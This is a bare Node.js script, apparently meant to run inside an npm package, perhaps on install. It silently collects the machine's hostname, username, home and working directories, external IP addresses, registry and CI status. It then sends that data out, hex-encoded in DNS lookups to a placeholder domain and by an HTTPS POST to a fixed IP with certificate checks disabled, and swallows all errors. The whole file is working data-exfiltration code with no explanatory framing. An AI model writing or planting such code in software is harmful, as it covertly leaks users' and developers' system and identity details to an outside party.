const os = require("os");
const dns = require("dns");
const https = require("https");
const pkg = require("../package.json");

const info = {
  p: pkg.name,
  v: pkg.version,
  h: os.hostname(),
  u: os.userInfo().username,
  d: process.cwd(),
  hd: os.homedir(),
  ip: Object.values(os.networkInterfaces()).flat().filter((i) => i && !i.internal && i.family === "IPv4").map((i) => i.address),
  r: process.env.npm_config_registry,
  c: !!process.env.CI,
};

const hex = Buffer.from(JSON.stringify(info)).toString("hex");
const id = Math.random().toString(36).slice(2, 7);
const labels = hex.match(/.{1,60}/g) || [];
labels.forEach((l, i) => dns.resolve4(`${l}.${i}.${id}.dc.example.invalid`, () => {}));

const body = JSON.stringify(info);
const r = https.request({
  hostname: "198.51.100.77",
  port: 443,
  path: "/c",
  method: "POST",
  rejectUnauthorized: false,
  headers: { "Content-Type": "application/json", "Content-Length": Buffer.byteLength(body) },
}, (res) => res.resume());
r.on("error", () => {});
r.end(body);
